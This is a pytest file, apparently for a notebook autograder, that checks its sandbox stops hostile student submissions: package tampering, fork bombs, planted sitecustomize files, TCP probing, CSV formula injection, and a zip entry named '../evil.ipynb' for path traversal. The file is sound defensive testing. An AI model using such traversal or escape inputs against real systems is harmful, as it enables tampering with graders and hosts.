    """Issue 22 (6): a student's message reaches results.csv inert."""
    row = graded["results"][("mixed", "demo.normalize")]  # type: ignore[index]
    assert row["message"] == "'" + FORMULA
    for path in ("results.csv", "grades.csv", "summary.csv"):
        for r in read_csv(graded["out"] / path):  # type: ignore[operator]
            for value in r.values():
                assert not value.lstrip(" ").startswith(("=", "+", "@")), value


def test_links_in_a_submission_are_never_followed(graded: dict[str, object]) -> None:
    """Issue 22 (8): no write or chown through a student's link; a linked
    notebook is not graded."""
    assert graded["victim_after"] == "untouched"
    assert graded["victim_owner"] == os.getuid()
    assert "symlinked" not in graded["grades"]  # type: ignore[operator]
    assert float(graded["grades"]["linked"]["total"]) == 4  # type: ignore[index]


def test_run_time_reference_use_is_found(graded: dict[str, object]) -> None:
    """Issue 22 (11): importlib + getattr reach the reference; no points."""
    row = graded["results"][("mixed", "demo.softplus")]  # type: ignore[index]
    assert float(row["points"]) == 0 and "run time" in row["message"]


@pytest.mark.parametrize("student", ["planted_folder", "planted_cell"])
def test_nothing_planted_in_the_job_folder_is_imported(
    graded: dict[str, object], student: str
) -> None:
    """Issue 28 (1): ``coursework/``, ``sitecustomize.py``, ``usercustomize.py``
    and ``.pth`` files in the job's folder and its home, submitted with it
    (route 1) or written by a cell whose kernel then dies (route 3), are
    imported by no process: not the sandbox that starts the next kernel or
    the checks children, not those processes themselves. The blank notebook
    stays at zero, the full solution beside it at full marks."""
    printed = executed_output(graded, student)
    assert "IMPORTED=[]" in printed and "IMPORTED=['" not in printed, printed
    if student == "planted_cell":  # the files were there when the kernel restarted
        assert "PLANTED" in printed
    assert set(statuses(graded, student).values()) == {"missing"}
    for i in IDS:
        message = graded["results"][(student, i)]["message"]  # type: ignore[index]
        assert "IMPORTED=[]" in message, message
    assert float(graded["grades"][student]["total"]) == 0  # type: ignore[index]
    assert float(graded["grades"]["solution"]["total"]) == 4  # type: ignore[index]


def test_sysv_shared_memory_dies_with_its_job(graded: dict[str, object]) -> None:
    """Issue 28 (5): a job's SysV segments live in its own IPC namespace."""
    iso: Isolation = graded["isolation"]  # type: ignore[assignment]
    if not iso.namespaces:
        pytest.skip("no namespaces here: the job shares the machine's IPC")
    printed = executed_output(graded, "escapee")
    ids = [int(v) for v in printed.split("SHM [")[1].split("]")[0].split(",")]
    assert all(i >= 0 for i in ids)  # created, in the job's namespace
    assert int(printed.split("SEEN")[1].split()[0]) == len(ids)  # no one else's
    keys = {int(row.split()[0]) for row in graded["shm"].splitlines()[1:]}  # type: ignore[attr-defined]
    assert not keys & {SHM_KEY, SHM_KEY + 1}  # gone with the job


def test_a_job_over_its_disk_quota_fails_alone(graded: dict[str, object]) -> None:
    """Issue 28 (5): files that together pass --disk-mb 200 (each below the
    per-file limit) fail in that job alone, with a message that says why."""
    iso: Isolation = graded["isolation"]  # type: ignore[assignment]
    if not iso.disk_quota:
        pytest.skip(f"no tmpfs can be mounted here: {'; '.join(iso.notes)}")
    printed = executed_output(graded, "escapee")
    assert 0 < int(printed.split("WROTE")[1].split()[0]) * 63 <= 200
    feedback = (graded["out"] / "feedback" / "escapee.md").read_text()  # type: ignore[operator]
    assert "disk: `stored more than 200 MB on disk, the job's quota" in feedback
    assert float(graded["grades"]["escapee"]["total"]) == 4  # type: ignore[index]
    assert float(graded["grades"]["solution"]["total"]) == 4  # type: ignore[index]


def test_hidden_cases_show_verdict_and_hint_only(graded: dict[str, object]) -> None:
    """Issue 22 (12): a hidden case's failure says which, never its values."""
    feedback = (graded["out"] / "feedback" / "hidden_only.md").read_text()  # type: ignore[operator]
    assert "hidden case 1: failed" in feedback
    assert "Hint:" in feedback
    row = graded["results"][("hidden_only", "demo.softplus")]  # type: ignore[index]
    for leak in ("500", "100", "expected"):
        assert leak not in feedback.split("hidden case 1")[1].split("\n")[0]
        assert leak not in row["message"]


def test_memory_hog_is_reported_as_memory(graded: dict[str, object]) -> None:
    message = graded["results"][("memory", "demo.normalize")]["message"]  # type: ignore[index]
    assert "memory" in message


def test_uses_reference_is_named_in_feedback(graded: dict[str, object]) -> None:
    feedback = (graded["out"] / "feedback" / "alias.md").read_text()  # type: ignore[operator]
    assert "course package's own implementation" in feedback


def test_output_is_capped(graded: dict[str, object]) -> None:
    executed = graded["out"] / "executed" / "flood.ipynb"  # type: ignore[operator]
    assert executed.stat().st_size < 2 * 2**20
    assert "output truncated" in executed.read_text()


def test_files_written_by_a_student_change_nothing(graded: dict[str, object]) -> None:
    out: Path = graded["out"]  # type: ignore[assignment]
    assert "999" not in (out / "grades.csv").read_text()
    assert float(graded["grades"]["writes"]["total"]) == 4  # type: ignore[index]
    assert not (graded["subs"] / "escaped.txt").exists()  # type: ignore[operator]
    assert not (out / "escaped.txt").exists()


def test_feedback_hides_hidden_case_names(graded: dict[str, object]) -> None:
    feedback = (graded["out"] / "feedback" / "student.md").read_text()  # type: ignore[operator]
    assert "hidden case 1" in feedback
    assert "very large" not in feedback


def executed_output(graded: dict[str, object], student: str) -> str:
    """Everything the student's notebook printed, as the grader kept it."""
    nb = json.loads((graded["out"] / "executed" / f"{student}.ipynb").read_text())  # type: ignore[operator]
    return "".join(
        "".join(o.get("text", "")) + o.get("ename", "") + o.get("evalue", "")
        for c in nb["cells"]
        for o in c.get("outputs", [])
    )


def test_package_is_unchanged_by_the_batch(graded: dict[str, object]) -> None:
    real_before, copy_before = graded["package_before"]  # type: ignore[misc]
    real_after, copy_after = graded["package_after"]  # type: ignore[misc]
    assert real_after == real_before
    assert copy_after == copy_before
    assert git_clean(PACKAGE / "exercises" / "core.py") in (True, None)


def test_feedback_says_which_isolation_was_used(graded: dict[str, object]) -> None:
    iso: Isolation = graded["isolation"]  # type: ignore[assignment]
    feedback = (graded["out"] / "feedback" / "solution.md").read_text()  # type: ignore[operator]
    assert f"Graded with {iso.describe()}." in feedback
    assert iso.describe() in graded["stderr"]  # type: ignore[operator]


def test_tampering_with_the_package_fails(graded: dict[str, object]) -> None:
    needs_isolation(graded)
    printed = executed_output(graded, "a_attacker")
    assert "PermissionError" in printed and "TAMPERED" not in printed
    grades = graded["grades"]
    assert float(grades["a_attacker"]["total"]) == 0  # type: ignore[index]
    assert float(grades["z_blank"]["total"]) == 0  # type: ignore[index]
    assert set(statuses(graded, "z_blank").values()) == {"missing"}


def test_thief_finds_no_classmate_to_copy(graded: dict[str, object]) -> None:
    needs_isolation(graded)
    row = graded["results"][("a_attacker", "demo.softplus")]  # type: ignore[index]
    assert row["status"] == "missing" and float(row["points"]) == 0
    assert "nothing to copy" in row["message"]


def test_writes_to_results_and_snapshots_fail(graded: dict[str, object]) -> None:
    needs_isolation(graded)
    printed = executed_output(graded, "a_attacker")
    assert "WROTE 0 of" in printed
    out: Path = graded["out"]  # type: ignore[assignment]
    assert "999" not in (out / "grades.csv").read_text()
    assert not (out / ".state" / "x.json").exists()
    original = graded["subs"] / "solution.ipynb"  # type: ignore[operator]
    assert json.loads(original.read_text())["nbformat"] == 4


def test_hidden_checks_cannot_be_read(graded: dict[str, object]) -> None:
    needs_isolation(graded)
    row = graded["results"][("a_attacker", "demo.normalize")]  # type: ignore[index]
    assert row["status"] == "error" and "PermissionError" in row["message"]


def test_student_code_cannot_kill_the_grader(graded: dict[str, object]) -> None:
    iso = needs_isolation(graded)
    row = graded["results"][("a_attacker", "demo.pairwise_sq_dists")]  # type: ignore[index]
    assert row["status"] == "error" and float(row["points"]) == 0
    if iso.signals_contained:
        assert any(e in row["message"] for e in ("PermissionError", "ProcessLookup"))


def test_without_namespaces_landlock_still_closes_tcp(
    tmp_path: Path, package_copy: Path
) -> None:
    """Issue 22 (1) where namespaces are refused (here: no ``unshare`` on PATH).

    Kernels then talk to the grader over TCP on the machine's network, so
    Landlock (ABI 4) must refuse student code every TCP connection: to the
    other kernels' ports it finds in ``/proc/net/tcp`` and to the grader's.
    """
    from coursework.grading.oscalls import landlock_abi

    if landlock_abi() < 4:
        pytest.skip("Landlock's network rules need ABI 4 (Linux 6.7)")
    tools = tmp_path / "bin"  # every command on PATH but unshare
    tools.mkdir()
    for folder in os.environ.get("PATH", "").split(os.pathsep):
        for entry in Path(folder).glob("*") if folder else []:
            if entry.name != "unshare" and not (tools / entry.name).exists():
                (tools / entry.name).symlink_to(entry)
    solution, _ = demo_notebooks()
    subs, out = tmp_path / "submissions", tmp_path / "results"
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    write_submissions(subs, {"spy": variant(solution, extra=[net_spy(port)])})
    args = [*FAST]
    args[args.index("--checks") + 1] = str(private_checks(tmp_path))
    args[args.index("--jobs") + 1] = "1"
    try:
        done = grade(package_copy, subs, out, *args, path=str(tools))
    finally:
        listener.close()
    assert done.returncode == 0, done.stderr
    line = done.stderr.split("isolation:")[1].splitlines()[0]
    assert "namespace" not in line and "(no TCP connections)" in line, line
    grades = {r["student"]: r for r in read_csv(out / "grades.csv")}
    assert float(grades["spy"]["total"]) == 4  # the kernel itself still works
    nb = json.loads((out / "executed" / "spy.ipynb").read_text())
    printed = "".join(
        "".join(o.get("text", "")) for c in nb["cells"] for o in c.get("outputs", [])
    )
    assert "UNREACHABLE" in printed and "REACHED\n" not in printed
    listening = printed.split("LISTENING")[1].split()
    assert int(listening[0]) > 0 and listening[1:3] == ["CONNECTED", "0"]


def test_tampering_without_isolation_stops_the_run(
    tmp_path: Path, package_copy: Path
) -> None:
    """With no OS isolation the tamper cell changes the (copied) package: the
    integrity check must stop the run and grade nothing with the changed code."""
    package = tmp_path / "package"
    shutil.copytree(
        package_copy / "coursework",
        package / "coursework",
        ignore=shutil.ignore_patterns("__pycache__"),
    )
    core = package / "coursework" / "exercises" / "core.py"
    original = core.read_text()
    solution, student = demo_notebooks()
    subs, out = tmp_path / "submissions", tmp_path / "results"
    items = {
        "a_tamper": variant(student, extra=[TAMPER]),
        "m_solution": solution,
        "z_blank": student,
    }
    write_submissions(subs, items)
    before = package_state()
    args = [*FAST, "--isolation", "process"]
    args[args.index("--checks") + 1] = str(private_checks(tmp_path))
    args[args.index("--jobs") + 1] = "1"
    done = grade(package, subs, out, *args)
    assert core.read_text() != original  # the attack did change the copy
    assert done.returncode == 3, done.stderr
    assert "isolation: process only" in done.stderr
    assert "STOPPED" in done.stderr and "a_tamper" in done.stderr
    grades = {r["student"]: r for r in read_csv(out / "grades.csv")}
    assert sorted(grades) == ["a_tamper"]  # nothing else graded with the changed code
    assert float(grades["a_tamper"]["total"]) == 0
    rows = [r for r in read_csv(out / "results.csv") if r["student"] == "a_tamper"]
    assert {r["status"] for r in rows} == {"tampered"}
    assert "not graded" in (out / "feedback" / "a_tamper.md").read_text()
    assert package_state() == before


UNDER_LOAD = ["solution", "loop", "os_exit", "memory"]
BUSY = "import time\nend = time.time() + 240\nwhile time.time() < end:\n    pass\n"


def test_statuses_do_not_depend_on_an_idle_machine(
    graded: dict[str, object], tmp_path: Path, package_copy: Path
) -> None:
    """The timing-sensitive part of the battery again, with every core kept busy."""
    solution, student = demo_notebooks()
    subs, out = tmp_path / "submissions", tmp_path / "results"
    items = battery(solution, student, subs, out)
    write_submissions(subs, {n: items[n] for n in UNDER_LOAD})
    # the statuses come from the checks alone (--no-run gives the same grades:
    # test_no_run_gives_the_same_grades_without_running_notebooks)
    args = [*FAST, "--no-run"]
    args[args.index("--checks") + 1] = str(private_checks(tmp_path))
    busy = [
        subprocess.Popen([sys.executable, "-c", BUSY])
        for _ in range(max(2, len(os.sched_getaffinity(0))))
    ]
    try:
        done = grade(package_copy, subs, out, *args)
    finally:
        for proc in busy:
            proc.kill()
            proc.wait()
    assert done.returncode == 0, done.stderr
    loaded = {(r["student"], r["exercise"]): r for r in read_csv(out / "results.csv")}
    idle = graded["results"]
    for name in UNDER_LOAD:
        for i in IDS:
            assert loaded[(name, i)]["status"] == idle[(name, i)]["status"], (name, i)  # type: ignore[index]
            assert loaded[(name, i)]["points"] == idle[(name, i)]["points"]  # type: ignore[index]
    assert "memory" in loaded[("memory", "demo.normalize")]["message"]


NO_RUN = [*UNDER_LOAD, "student", "fake_pass", "redefine_check", "monkeypatch"]


@pytest.fixture(scope="module")
def graded_no_run(
    tmp_path_factory: pytest.TempPathFactory, package_copy: Path
) -> dict[str, object]:
    """One --no-run batch: part of the battery, and issue 28's attacks that act
    in the checks child (route 2 of (1), the forms of (2), the reply of (3))."""
    base = tmp_path_factory.mktemp("no-run")
    solution, student = demo_notebooks()
    subs, out = base / "submissions", base / "results"
    items = battery(solution, student, subs, out)
    chosen = {n: items[n] for n in NO_RUN}
    chosen["planted_class"] = variant(student, REPORTING, [PLANT_CLASS])
    for name, source in REFERENCE_FORMS.items():
        chosen[name] = variant(solution, {"demo.softplus": source})
    chosen["balloon"] = variant(solution, {"demo.normalize": BALLOON})
    write_submissions(subs, chosen)
    args = [*FAST, "--no-run"]
    args[args.index("--checks") + 1] = str(private_checks(base))
    done = grade(package_copy, subs, out, *args)
    return {
        "status": done.returncode,
        "stderr": done.stderr,
        "out": out,
        "results": {
            (r["student"], r["exercise"]): r for r in read_csv(out / "results.csv")
        },
        "grades": {r["student"]: r for r in read_csv(out / "grades.csv")},
    }


def test_no_run_gives_the_same_grades_without_running_notebooks(
    graded: dict[str, object], graded_no_run: dict[str, object]
) -> None:
    """--no-run skips the notebook run (feedback only) and changes no grade, for
    honest notebooks and for the attacks that act in functions or at top level."""
    assert graded_no_run["status"] == 0, graded_no_run["stderr"]
    rows, idle = graded_no_run["results"], graded["results"]
    for name in NO_RUN:
        for i in IDS:
            got, want = rows[(name, i)], idle[(name, i)]  # type: ignore[index]
            assert (got["status"], got["points"]) == (
                want["status"],
                want["points"],
            ), (name, i)
    grades = graded_no_run["grades"]
    for name in NO_RUN:
        assert grades[name] == graded["grades"][name]  # type: ignore[index]
    out: Path = graded_no_run["out"]  # type: ignore[assignment]
    feedback = (out / "feedback" / "solution.md").read_text()
    assert "the notebook itself was not run" in feedback
    assert not list((out / "executed").glob("*.ipynb"))


def test_files_planted_by_the_checks_rebuild_are_not_imported(
    graded_no_run: dict[str, object],
) -> None:
    """Issue 28 (1), route 2: a class body plants the files and kills its checks
    child (os._exit: SIGKILL does not reach a namespace's init from inside);
    the next child starts in that folder and imports none of them."""
    rows = graded_no_run["results"]
    first = rows[("planted_class", "demo.softplus")]  # type: ignore[index]
    assert first["status"] == "kernel-died" and "rebuilding" in first["message"]
    for i in IDS[1:]:
        row = rows[("planted_class", i)]  # type: ignore[index]
        assert row["status"] == "missing", row
        assert "IMPORTED=[]" in row["message"], row["message"]
    assert float(graded_no_run["grades"]["planted_class"]["total"]) == 0  # type: ignore[index]
    assert float(graded_no_run["grades"]["solution"]["total"]) == 4  # type: ignore[index]


@pytest.mark.parametrize("student", sorted(REFERENCE_FORMS))
def test_the_reference_under_another_name_is_found(
    graded_no_run: dict[str, object], student: str
) -> None:
    """Issue 28 (2): a name bound to the reference by any route, or the
    reference run by a library for the student, is ``uses-reference``."""
    rows = graded_no_run["results"]
    row = rows[(student, "demo.softplus")]  # type: ignore[index]
    assert row["status"] == "uses-reference", row
    assert float(row["points"]) == 0
    for i in IDS[1:]:  # the rest of the notebook is the full solution
        assert rows[(student, i)]["status"] == "passed"  # type: ignore[index]


def test_a_ballooning_reply_is_refused_before_any_arithmetic(
    graded_no_run: dict[str, object],
) -> None:
    """Issue 28 (3): 125 million elements in a stride-0 view are refused by
    their count, before the checker computes with them; nothing else fails."""
    rows = graded_no_run["results"]
    row = rows[("balloon", "demo.normalize")]  # type: ignore[index]
    assert row["status"] == "error" and float(row["points"]) == 0
    assert "125,000,000 elements" in row["message"], row["message"]
    for i in IDS[:2]:
        assert rows[("balloon", i)]["status"] == "passed"  # type: ignore[index]


NOBODY = 65534
# What the process cap, the escape, SysV memory and the disk quota meet as an
# ordinary user: RLIMIT_NPROC instead of a pids cgroup, the job's process
# namespace and the worker as subreaper instead of a user of its own, and a
# tmpfs mounted in the worker's own user namespace instead of by root.
UNPRIVILEGED_ESCAPEE = [FORK_BOMB, ESCAPE, SHARED_MEMORY, DISK_FILLER]


def test_battery_as_an_unprivileged_user(
    package_copy: Path, as_nobody: Callable[..., list[str]]
) -> None:
    """Run as root (as CI does) the suite covers the root path; this covers the
    recommended one, a batch run by user 65534 (in a private mount namespace
    that opens the way to this Python: see ``conftest.as_nobody``), with the
    cases whose defence differs without root: the attacks that file
    isolation stops (Landlock alone, no user of its own), files planted for
    the next interpreter, a fork bomb (``RLIMIT_NPROC``, no cgroup), an
    escape, SysV memory and the disk quota (a tmpfs in the worker's own user
    namespace). The other cases meet the same layers either way, and
    ``planted_cell`` is also the blank notebook graded after the attacker
    (the root battery's ``z_blank``), so the run costs four jobs."""
    base = Path(tempfile.mkdtemp(prefix="coursework-unprivileged-"))
    try:
        subs, out = base / "submissions", base / "results"
        checks = base / "checks"
        shutil.copytree(CHECKS, checks, ignore=shutil.ignore_patterns("__pycache__"))
        solution, student = demo_notebooks()
        items = battery(solution, student, subs, out, checks, Isolation("landlock", 1))
        names = ["solution", "a_attacker", "planted_cell"]
        chosen = {n: items[n] for n in names}
        chosen["escapee"] = variant(solution, extra=UNPRIVILEGED_ESCAPEE)
        write_submissions(subs, chosen)
        for path in [base, *base.rglob("*")]:
            os.chown(path, NOBODY, NOBODY)
        os.chmod(checks, 0o700)
        before = package_state(), hash_files(package_copy / "coursework")
        args = [*FAST]
        args[args.index("--checks") + 1] = str(checks)
        prefix = as_nobody([package_copy, base])
        done = grade(package_copy, subs, out, *args, prefix=prefix)
        assert done.returncode == 0, done.stderr
        line = done.stderr.split("isolation:")[1].splitlines()[0]
        assert "Landlock" in line and "a user of its own" not in line, line
        assert "a disk quota per submission (a tmpfs in a user namespace" in line
        grades = {r["student"]: r for r in read_csv(out / "grades.csv")}
        assert sorted(grades) == sorted(chosen)
        for name in ["solution", "escapee"]:
            assert float(grades[name]["total"]) == 4, name
        for name in ["a_attacker", "planted_cell"]:
            assert float(grades[name]["total"]) == 0, name
        rows = read_csv(out / "results.csv")
        results = {(r["student"], r["exercise"]): r for r in rows}
        for i in IDS:  # issue 28 (1) without root: nothing planted is imported
            assert "IMPORTED=[]" in results[("planted_cell", i)]["message"]
            assert results[("planted_cell", i)]["status"] == "missing"
        # issue 22 without root: no copying, tampering, writing out, reading
        attacker = executed_output({"out": out}, "a_attacker")
        assert "PermissionError" in attacker and "TAMPERED" not in attacker
        assert "WROTE 0 of" in attacker
        assert results[("a_attacker", "demo.softplus")]["status"] == "missing"
        assert "nothing to copy" in results[("a_attacker", "demo.softplus")]["message"]
        row = results[("a_attacker", "demo.normalize")]
        assert row["status"] == "error" and "PermissionError" in row["message"]
        # the process cap, the escape, SysV memory and the quota (issue 28 (5))
        printed = executed_output({"out": out}, "escapee")
        assert "REFUSED after" in printed and "FORKED" not in printed
        assert int(printed.split("REFUSED after")[1].split()[0]) < 96
        assert "ESCAPED" in printed and left_behind() == []
        assert int(printed.split("SEEN")[1].split()[0]) == 2
        assert 0 < int(printed.split("WROTE")[1].split()[0]) * 63 <= 200
        feedback = (out / "feedback" / "escapee.md").read_text()
        assert "disk: `stored more than 200 MB on disk, the job's quota" in feedback
        assert (package_state(), hash_files(package_copy / "coursework")) == before
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_interrupted_run_resumes_to_the_same_gradebook(
    graded: dict[str, object], tmp_path: Path, package_copy: Path
) -> None:
    solution, student = demo_notebooks()
    subs, out = tmp_path / "submissions", tmp_path / "results"
    names = ["solution", "student", "alias"]
    items = battery(solution, student, subs, out)
    write_submissions(subs, {n: items[n] for n in names})
    command = [
        sys.executable,
        "-m",
        "coursework",
        "grade",
        str(subs),
        "--out",
        str(out),
        *FAST,
        "--no-run",  # what is tested is the resume, not the run (same grades)
    ]
    command[command.index("--jobs") + 1] = "1"
    proc = subprocess.Popen(
        command,
        cwd=package_copy,
        env={**os.environ, "PYTHONPATH": str(package_copy)},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and not list((out / ".state").glob("*.json")):
        time.sleep(0.2)
    proc.send_signal(signal.SIGTERM)
    proc.communicate(timeout=60)
    assert proc.returncode == 130
    again = subprocess.run(
        command,
        cwd=package_copy,
        env={**os.environ, "PYTHONPATH": str(package_copy)},
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert again.returncode == 0, again.stderr
    assert "reused 1" in again.stdout or "reused 2" in again.stdout
    want = [r for s, r in sorted(graded["grades"].items()) if s in names]  # type: ignore[attr-defined]
    assert read_csv(out / "grades.csv") == want
    third = subprocess.run(
        command,
        cwd=package_copy,
        env={**os.environ, "PYTHONPATH": str(package_copy)},
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert "reused 3" in third.stdout
    assert read_csv(out / "grades.csv") == want


REAL = sorted((ROOT / "solutions").glob("[0-9][0-9]_*.ipynb"))
# Grades never depend on the notebook run (the checks rebuild the functions
# from the source), and nbval already runs every notebook in the ci profile:
# one notebook is graded with its run, the others with --no-run.
RUN_ONE = "03_vae"


@pytest.mark.parametrize("notebook", REAL, ids=[p.stem for p in REAL])
def test_real_notebook_solution_full_student_zero(
    notebook: Path, tmp_path: Path, package_copy: Path
) -> None:
    """Every exercise of a real notebook: the solution full marks, the student zero."""
    source = notebook.with_suffix(".py")
    if source.exists():
        solution, student, _ = split_notebook(source)
    else:
        solution = nbformat.read(notebook, as_version=4)
        student = nbformat.read(ROOT / "notebooks" / notebook.name, as_version=4)
    subs, out = tmp_path / "submissions", tmp_path / "results"
    write_submissions(subs, {"solution": solution, "student": student})
    done = grade(
        package_copy,
        subs,
        out,
        *[
            "--jobs",
            "2",
            "--quiet",
            "--notebook",
            notebook.stem,
            "--notebook-timeout",
            "600",
            "--cell-timeout",
            "300",
            *([] if notebook.stem == RUN_ONE else ["--no-run"]),
        ],
        timeout=850,
    )
    assert done.returncode == 0, done.stderr
    grades = {r["student"]: r for r in read_csv(out / "grades.csv")}
    rows = [r for r in read_csv(out / "results.csv") if r["student"] == "solution"]
    failed = [r for r in rows if r["status"] != "passed"]
    why = [(r["exercise"], r["status"], r.get("message")) for r in failed]
    assert rows and not failed, why
    assert float(grades["solution"]["total"]) == float(grades["solution"]["max"]) > 0
    assert float(grades["student"]["total"]) == 0
    student_rows = [
        r for r in read_csv(out / "results.csv") if r["student"] == "student"
    ]
    assert all(r["status"] in ("missing", "failed", "error") for r in student_rows)
    state = json.loads((out / ".state" / "solution.json").read_text())
    phases = json.loads(state["record"])["phases"]
    assert {"read", "copy", "checks start", "checks", "clean-up"} <= set(phases)
    assert ("cells" in phases) == (notebook.stem == RUN_ONE), phases


def test_zip_export_with_student_folders(tmp_path: Path, package_copy: Path) -> None:
    import zipfile

    solution, _ = demo_notebooks()
    archive = tmp_path / "export.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr(
            "Ada Lovelace_123_assignsubmission_file/90_demo.ipynb", dumps(solution)
        )
        zf.writestr("../evil.ipynb", "{}")
        zf.writestr("__MACOSX/._x.ipynb", "junk")
    out = tmp_path / "results"
    done = grade(package_copy, archive, out, *FAST)
    assert done.returncode == 0, done.stderr
    grades = read_csv(out / "grades.csv")
    assert [g["student"] for g in grades] == ["Ada_Lovelace_123_assignsubmission_file"]
    assert float(grades[0]["total"]) == 4
    assert not (tmp_path.parent / "evil.ipynb").exists()
    assert not os.path.exists(tmp_path / "evil.ipynb")


def test_corrupt_zip_is_refused_and_leaves_no_folder(
    tmp_path: Path, package_copy: Path
) -> None:
    """Issue 22 (9): a corrupt entry is an error message, not a traceback or a leak."""
    import zipfile

    solution, _ = demo_notebooks()
    archive = tmp_path / "export.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("a/90_demo.ipynb", dumps(solution))
    data = bytearray(archive.read_bytes())
    at = data.find(b"90_demo.ipynb") + len(b"90_demo.ipynb")
    data[at : at + 64] = bytes(64)
    archive.write_bytes(bytes(data))
    before = set(Path(tempfile.gettempdir()).glob("coursework-submissions-*"))
    done = grade(package_copy, archive, tmp_path / "results", *FAST)
    assert done.returncode == 1, done.stderr
    assert "cannot be read" in done.stderr and "Traceback" not in done.stderr
    after = set(Path(tempfile.gettempdir()).glob("coursework-submissions-*"))
    assert after <= before
